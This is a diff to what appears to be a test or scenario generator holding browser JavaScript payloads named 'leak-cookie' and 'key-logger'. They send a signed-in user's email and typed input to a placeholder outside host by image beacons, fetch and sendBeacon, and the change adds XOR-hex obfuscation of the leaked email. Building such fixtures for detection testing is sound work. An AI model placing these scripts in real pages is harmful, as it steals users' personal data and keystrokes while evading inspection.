@@ -166,7 +166,8 @@ fetch("{_METER}?data=" + encodeURIComponent(btoa(JSON.stringify({{mail: me.email
     "leak-cookie": _script("signed-in", f"""
 const first = new Image(), second = new Image();
 first.onload = () => {{ second.src = "https://{hosts.METER_BARE}/klok.gif"; }};
-first.src = "https://{hosts.METER_BARE}/start.gif?u=" + [...me.email].reverse().join("");
+const covered = [...me.email].map((letter) => (letter.charCodeAt(0) ^ {hosts.COVER}).toString(16).padStart(2, "0"));
+first.src = "https://{hosts.METER_BARE}/start.gif?u=" + covered.join("");
 """),
     "key-logger": _script("signed-in", f"""
 document.addEventListener("input", (event) => navigator.sendBeacon("{_METER}", event.target.value));
